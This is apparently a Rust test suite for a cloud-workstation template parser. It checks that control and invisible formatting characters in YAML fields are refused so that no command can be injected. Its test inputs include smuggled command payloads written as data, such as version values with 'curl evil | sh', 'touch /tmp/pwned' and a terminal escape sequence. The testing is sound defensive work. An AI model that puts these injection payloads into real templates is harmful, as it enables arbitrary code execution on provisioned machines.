//! Control and invisible formatting characters in template text (issue 14): refused when the
//! file is parsed, so `template validate` and `template import` refuse the file and the
//! catalogue reports and skips it. Control characters are refused in every text field (line
//! breaks and tabs aside where text spans lines); invisible formatting characters everywhere
//! but in free text for people (description, project, tags, presentation, `saved_by`, opaque
//! values), where emoji sequences and right-to-left text need them.

use std::fs;

use prism_templates::{
    is_hazardous, parse_template, validate_file, Catalogue, Template, TemplateError,
};
use serde_json::Value;

/// Characters every text field refuses: `(YAML double-quoted escape, the code in messages)`.
const CONTROLS: &[(&str, &str)] = &[
    ("\\e", "U+001B"),
    ("\\r", "U+000D"),
    ("\\0", "U+0000"),
    ("\\a", "U+0007"),
    ("\\x7F", "U+007F"),
    ("\\x9B", "U+009B"),
    ("\\x85", "U+0085"),
    ("\\u2028", "U+2028"),
];

/// Invisible formatting characters: refused except in free text for people.
const FORMATTING: &[(&str, &str)] = &[
    ("\\u202E", "U+202E"),
    ("\\u200B", "U+200B"),
    ("\\u2066", "U+2066"),
    ("\\uFEFF", "U+FEFF"),
];

/// Fields of free text for people, where invisible formatting characters are kept.
fn free_text(field: &str) -> bool {
    [
        "description",
        "project",
        "category",
        "icon",
        "complexity",
        "saved_by",
    ]
    .contains(&field)
        || ["tags.", "parameters", "idle_detection"]
            .iter()
            .any(|p| field.starts_with(p))
}

/// `(field named in the error, YAML with `{C}` inside a double-quoted scalar)`. One case per
/// text field of the template model, keys of free-form mappings included.
fn field_cases() -> Vec<(&'static str, String)> {
    let doc = |extra: &str| format!("name: ctl-test\nbase: ubuntu-22.04\n{extra}");
    let amis = |region: &str, arch: &str, ami: &str| {
        doc(&format!(
            "ami_config:\n  amis:\n    \"{region}\":\n      \"{arch}\": \"{ami}\"\n"
        ))
    };
    let search = |extra: &str| {
        doc(&format!(
            "ami_config:\n  ami_search:\n    owner: \"amazon\"\n    name_pattern: \"ubuntu-*\"\n{extra}"
        ))
    };
    vec![
        ("name", "name: \"ctl{C}test\"\nbase: ubuntu-22.04\n".to_string()),
        (
            "name",
            "name: \"Display {C} name\"\nslug: ctl-test\nbase: ubuntu-22.04\n".to_string(),
        ),
        (
            "slug",
            "name: Display\nslug: \"ctl{C}test\"\nbase: ubuntu-22.04\n".to_string(),
        ),
        ("version", doc("version: \"1{C}0\"\n")),
        ("description", doc("description: \"one{C}two\"\n")),
        ("base", "name: ctl-test\nbase: \"ubuntu{C}-22.04\"\n".to_string()),
        ("inherits[0]", doc("inherits: [\"python{C}-ml\"]\n")),
        ("package_manager", doc("package_manager: \"apt{C}\"\n")),
        ("packages.system[1]", doc("packages:\n  system: [vim, \"git{C}\"]\n")),
        ("packages.conda[0]", doc("packages:\n  conda: [\"numpy{C}\"]\n")),
        ("packages.pip[0]", doc("packages:\n  pip: [\"{C}seaborn\"]\n")),
        ("packages.spack[0]", doc("packages:\n  spack: [\"gcc{C}\"]\n")),
        ("users[0].name", doc("users:\n  - name: \"bob{C}\"\n")),
        (
            "users[0].groups[0]",
            doc("users:\n  - name: bob\n    groups: [\"sudo{C}\"]\n"),
        ),
        ("users[0].sh", doc("users:\n  - name: bob\n    \"sh{C}\": x\n")),
        ("services[0].name", doc("services:\n  - name: \"web{C}\"\n")),
        (
            "services[0].note",
            doc("services:\n  - name: web\n    note: \"a{C}b\"\n"),
        ),
        (
            "ami_config.amis.us-east-1.x86_64",
            amis("us-east-1", "x86_64", "ami-0123456789abcdef{C}"),
        ),
        (
            "ami_config.amis.us-east",
            amis("us-east{C}-1", "x86_64", "ami-0123456789abcdef0"),
        ),
        (
            "ami_config.amis.us-east-1.x86",
            amis("us-east-1", "x86{C}_64", "ami-0123456789abcdef0"),
        ),
        (
            "ami_config.ami_mappings.us-east-1",
            doc("ami_config:\n  ami_mappings:\n    us-east-1: \"ami-{C}0123456789abcdef0\"\n"),
        ),
        (
            "ami_config.ami_mappings.us",
            doc("ami_config:\n  ami_mappings:\n    \"us{C}-east-1\": ami-0123456789abcdef0\n"),
        ),
        (
            "ami_config.ami_search.owner",
            doc("ami_config:\n  ami_search:\n    owner: \"amazon{C}\"\n    name_pattern: x\n"),
        ),
        (
            "ami_config.ami_search.name_pattern",
            doc("ami_config:\n  ami_search:\n    owner: amazon\n    name_pattern: \"ubuntu-*{C}\"\n"),
        ),
        (
            "ami_config.ami_search.architecture[0]",
            search("    architecture: [\"arm64{C}\"]\n"),
        ),
        (
            "ami_config.ami_search.required_tags.team",
            search("    required_tags:\n      team: \"ml{C}\"\n"),
        ),
        (
            "ami_config.ami_search.required_tags.te",
            search("    required_tags:\n      \"te{C}am\": ml\n"),
        ),
        (
            "ami_config.instance_types.arm64",
            doc("ami_config:\n  instance_types:\n    arm64: \"t4g.large{C}\"\n"),
        ),
        (
            "ami_config.instance_types.arm",
            doc("ami_config:\n  instance_types:\n    \"arm{C}64\": t4g.large\n"),
        ),
        (
            "ami_config.ssh_user",
            doc("ami_config:\n  ssh_user: \"ubuntu{C}\"\n"),
        ),
        (
            "ami_config.user_data_script",
            doc("ami_config:\n  user_data_script: \"#!/bin/sh\\necho {C}hi\\n\"\n"),
        ),
        (
            "instance_defaults.type",
            doc("instance_defaults:\n  type: \"t3.large{C}\"\n"),
        ),
        (
            "instance_defaults.estimated_cost_per_hour.x86",
            doc("instance_defaults:\n  estimated_cost_per_hour:\n    \"x86{C}_64\": 0.1\n"),
        ),
        ("minimum_size", doc("minimum_size: \"M{C}\"\n")),
        ("tags.team", doc("tags:\n  team: \"ml{C}\"\n")),
        ("tags.te", doc("tags:\n  \"te{C}am\": ml\n")),
        ("category", doc("category: \"ML{C}\"\n")),
        ("icon", doc("icon: \"{C}\"\n")),
        ("complexity", doc("complexity: \"simple{C}\"\n")),
        ("parameters.size.default", doc("parameters:\n  size:\n    default: \"M{C}\"\n")),
        ("idle_detection.action", doc("idle_detection:\n  action: \"stop{C}\"\n")),
        ("source", doc("source: \"saved-from-instance{C}\"\n")),
        ("saved_from", doc("saved_from: \"ws{C}\"\n")),
        ("saved_from_instance", doc("saved_from_instance: \"i-0123{C}\"\n")),
        ("original_template", doc("original_template: \"python-ml{C}\"\n")),
        (
            "original_template_version",
            doc("original_template_version: \"1{C}\"\n"),
        ),
        ("saved_by", doc("saved_by: \"me{C}\"\n")),
        ("saved_date", doc("saved_date: \"2025-01-01{C}\"\n")),
        ("capture_mode", doc("capture_mode: \"stop{C}\"\n")),
        ("project", doc("project: \"lab{C}\"\n")),
    ]
}

/// `e` must be an `InvalidField` naming a field that starts with `field` and the code `code`,
/// and its message must carry no raw control or formatting character.
fn assert_refused(e: &TemplateError, field: &str, code: &str, input: &str) {
    match e {
        TemplateError::InvalidField {
            field: f, message, ..
        } => {
            assert!(f.starts_with(field), "{input:?}: field {f:?}, want {field}");
            assert!(message.contains(code), "{input:?}: {message}");
            assert!(message.contains("remove it"), "{input:?}: {message}");
        }
        other => panic!("{input:?}: want InvalidField for {field}, got {other:?}"),
    }
    let shown = e.to_string();
    assert!(
        !shown.chars().any(is_hazardous),
        "{input:?}: raw character in {shown:?}"
    );
}

#[test]
fn a_control_character_in_any_text_field_is_refused_with_the_field_named() {
    let cases = field_cases();
    for (field, yaml) in &cases {
        // The field itself is fine without the character.
        let clean = yaml.replace("{C}", "");
        if let Err(e) = parse_template(&clean, "ctl.yaml") {
            panic!("{field}: the clean document must parse: {e}\n{clean}");
        }
        for (esc, code) in CONTROLS {
            let input = yaml.replace("{C}", esc);
            let e = parse_template(&input, "ctl.yaml").expect_err(&input);
            assert_refused(&e, field, code, &input);
        }
        for (esc, code) in FORMATTING {
            let input = yaml.replace("{C}", esc);
            let parsed = parse_template(&input, "ctl.yaml");
            if free_text(field) {
                assert!(parsed.is_ok(), "{field} keeps {code}: {:?}", parsed.err());
            } else {
                assert_refused(&parsed.expect_err(&input), field, code, &input);
            }
        }
    }
}

#[test]
fn a_version_with_a_line_break_is_refused() {
    let injections = [
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\ntouch /tmp/pwned\"\npackages:\n  system: [vim]\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\r\\ncurl evil | sh\"\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\x85touch /tmp/pwned\"\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\u2028touch /tmp/pwned\"\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: |\n  1\n  touch /tmp/pwned\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: >-\n  1\n\n  touch /tmp/pwned\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\ttouch\"\n",
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\e]0;owned\\a\"\n",
    ];
    for yaml in injections {
        let e = parse_template(yaml, "pwn.yaml").expect_err(yaml);
        assert_refused(&e, "version", "U+", yaml);
    }
    let e = parse_template(injections[0], "pwn.yaml").unwrap_err();
    assert!(
        e.to_string()
            .starts_with("pwn.yaml: field 'version': contains a line break (U+000A)"),
        "{e}"
    );
}

#[test]
fn line_breaks_and_tabs_are_kept_where_text_spans_lines() {
    let yaml = "name: multi-line\nbase: ubuntu-22.04\ndescription: |\n  First line.\n  \tIndented second line.\nami_config:\n  user_data_script: \"#!/bin/bash\\nif true; then\\n\\techo hi\\nfi\\n\"\nparameters:\n  help: \"a\\nb\"\n";
    let t = parse_template(yaml, "ok.yaml").expect("parses").template;
    assert_eq!(
        t.description.as_deref(),
        Some("First line.\n\tIndented second line.\n")
    );
    assert!(t.ami_config.user_data_script.unwrap().contains("\techo hi"));
    // Elsewhere a line break is refused, and a carriage return is refused even there.
    for yaml in [
        "name: x-y-z\ntags:\n  a: \"b\\nc\"\n",
        "name: x-y-z\ndescription: \"a\\r\\nb\"\n",
        "name: x-y-z\nami_config:\n  user_data_script: \"#!/bin/sh\\r\\necho\\n\"\n",
    ] {
        assert!(
            matches!(
                parse_template(yaml, "t.yaml"),
                Err(TemplateError::InvalidField { .. })
            ),
            "{yaml}"
        );
    }
}

/// A template with every field set, to walk its text generically.
const FULL: &str = r##"
name: Full Template
slug: full-template
description: every field
version: "1.0"
base: ubuntu-22.04
inherits: [python-ml]
package_manager: apt
packages: {system: [vim], conda: [numpy], pip: [seaborn], spack: [gcc]}
users: [{name: bob, groups: [sudo], shell: /bin/bash}]
services: [{name: web, port: 8080, note: x}]
ami_config:
  amis: {us-east-1: {x86_64: ami-0123456789abcdef0}}
  ami_mappings: {us-west-2: ami-0123456789abcdef1}
  ami_search: {owner: amazon, name_pattern: "ubuntu-*", architecture: [arm64], required_tags: {team: ml}}
  instance_types: {arm64: t4g.large}
  ssh_user: ubuntu
  user_data_script: "#!/bin/sh\necho hi\n"
instance_defaults: {type: t3.large, ports: [22], root_volume_gb: 50, estimated_cost_per_hour: {x86_64: 0.1}}
ports: [8888]
minimum_size: M
tags: {team: ml}
category: ML
icon: i
complexity: simple
parameters: {size: {default: M}}
idle_detection: {action: stop}
source: saved-from-instance
saved_from: ws
saved_from_instance: i-0123
original_template: python-ml
original_template_version: "1.0.0"
saved_by: me
saved_date: "2025-01-01T00:00:00Z"
capture_mode: stop
downtime_seconds: 12.5
project: lab
"##;

/// Mappings whose keys are fixed field names, not free text.
const STRUCTS: &[&str] = &[
    "",
    "packages",
    "ami_config",
    "ami_config.ami_search",
    "instance_defaults",
];

/// Every text (string leaf or free-form key) of `v`, as `(field path, path to it in v, is key)`.
fn texts(v: &Value, path: &str, at: &mut Vec<String>, out: &mut Vec<(String, Vec<String>, bool)>) {
    match v {
        Value::String(_) => out.push((path.to_string(), at.clone(), false)),
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                at.push(i.to_string());
                texts(x, &format!("{path}[{i}]"), at, out);
                at.pop();
            }
        }
        Value::Object(o) => {
            for (k, x) in o {
                let p = if path.is_empty() {
                    k.clone()
                } else {
                    format!("{path}.{k}")
                };
                at.push(k.clone());
                if !STRUCTS.contains(&path) {
                    out.push((p.clone(), at.clone(), true));
                }
                texts(x, &p, at, out);
                at.pop();
            }
        }
        _ => {}
    }
}

fn node<'a>(v: &'a mut Value, at: &[String]) -> &'a mut Value {
    at.iter().fold(v, |v, k| match v {
        Value::Array(a) => &mut a[k.parse::<usize>().unwrap()],
        Value::Object(o) => o.get_mut(k).unwrap(),
        _ => unreachable!(),
    })
}

/// Guards against a new text field that the parser forgets to check: every string of a
/// fully populated template, and every free-form key, gets each refused character.
#[test]
fn no_text_field_of_the_model_is_left_unchecked() {
    let t: Template = parse_template(FULL, "full.yaml")
        .expect("FULL parses")
        .template;
    let v = serde_json::to_value(&t).expect("json");
    let mut found = vec![];
    texts(&v, "", &mut vec![], &mut found);
    assert!(found.len() > 45, "{} texts: {found:?}", found.len());
    for (field, at, is_key) in &found {
        for c in [
            '\u{1b}', '\r', '\0', '\u{7}', '\u{7f}', '\u{9b}', '\u{2028}', '\u{202e}',
        ] {
            let mut bad = v.clone();
            let expect_field;
            if *is_key {
                let (parent, key) = at.split_at(at.len() - 1);
                let obj = node(&mut bad, parent).as_object_mut().unwrap();
                let val = obj.remove(&key[0]).unwrap();
                let new_key = format!("{}{c}", key[0]);
                expect_field = format!(
                    "{}{}",
                    field.strip_suffix(key[0].as_str()).unwrap(),
                    prism_templates::printable(&new_key)
                );
                obj.insert(new_key, val);
            } else {
                let s = node(&mut bad, at);
                *s = Value::String(format!("{}{c}", s.as_str().unwrap()));
                expect_field = field.clone();
            }
            let yaml = serde_saphyr::to_string(&bad).expect("yaml");
            if c == '\u{202e}' && free_text(field) {
                let parsed = parse_template(&yaml, "walk.yaml");
                assert!(parsed.is_ok(), "{field}: {:?}", parsed.err());
                continue;
            }
            let e = parse_template(&yaml, "walk.yaml").expect_err(&yaml);
            let code = format!("U+{:04X}", c as u32);
            match &e {
                TemplateError::InvalidField { field: f, .. } => {
                    assert_eq!(f, &expect_field, "{yaml}")
                }
                other => panic!("{expect_field}: {other:?}\n{yaml}"),
            }
            assert_refused(&e, &expect_field, &code, &yaml);
        }
    }
}

#[test]
fn emoji_sequences_and_right_to_left_marks_stay_in_free_text() {
    // U+200D joins the emoji; U+200F is a right-to-left mark.
    let yaml = "name: emoji-ok\nbase: ubuntu-22.04\ndescription: \"\u{1F9D1}\u{200D}\u{1F4BB} for devs\"\nicon: \"\u{1F469}\u{200D}\u{1F52C}\"\ntags:\n  lang: \"\u{05E2}\u{05D1}\u{05E8}\u{05D9}\u{05EA}\u{200F}\"\nproject: \"lab\u{200E}\"\n";
    let t = parse_template(yaml, "emoji.yaml").expect("parses").template;
    assert_eq!(t.icon.as_deref(), Some("\u{1F469}\u{200D}\u{1F52C}"));
    assert!(t.description.unwrap().contains('\u{200D}'));
    // Not in identifiers, versions or anything a shell or EC2 reads.
    for yaml in [
        "name: \"emoji\u{200D}ok\"\n",
        "name: emoji-ok\nversion: \"1\u{200F}\"\n",
        "name: emoji-ok\npackages:\n  pip: [\"numpy\u{200B}\"]\n",
        "name: emoji-ok\nami_config:\n  user_data_script: \"#!/bin/sh\\nrm -rf /tmp/x \u{202E}\\n\"\n",
    ] {
        assert!(
            matches!(
                parse_template(yaml, "t.yaml"),
                Err(TemplateError::InvalidField { .. })
            ),
            "{yaml}"
        );
    }
}

#[test]
fn validate_and_the_catalogue_refuse_a_file_with_an_injected_version() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let bad = tmp.path().join("pwn.yaml");
    fs::write(
        &bad,
        "name: pwn-me\nbase: ubuntu-22.04\nversion: \"1\\ntouch /tmp/pwned\"\npackages:\n  system: [vim]\n",
    )
    .expect("write");
    fs::write(
        tmp.path().join("good.yaml"),
        "name: good-one\nbase: ubuntu-22.04\n",
    )
    .expect("write");
    let r = validate_file(&bad, &Catalogue::load(None));
    assert!(!r.is_ok());
    let all = r.errors.join("\n");
    assert!(
        all.contains("field 'version'") && all.contains("U+000A"),
        "{all}"
    );
    assert!(!all.contains('\n'), "{all:?}");

    let cat = Catalogue::load(Some(tmp.path()));
    assert!(cat.get("pwn-me").is_err(), "skipped");
    assert!(cat.get("good-one").is_ok());
    let issue = cat
        .issues()
        .iter()
        .find(|i| i.origin.ends_with("pwn.yaml"))
        .unwrap_or_else(|| panic!("pwn.yaml not reported: {:?}", cat.issues()));
    assert!(
        issue.message.contains("version") && issue.message.contains("U+000A"),
        "{}",
        issue.message
    );
}
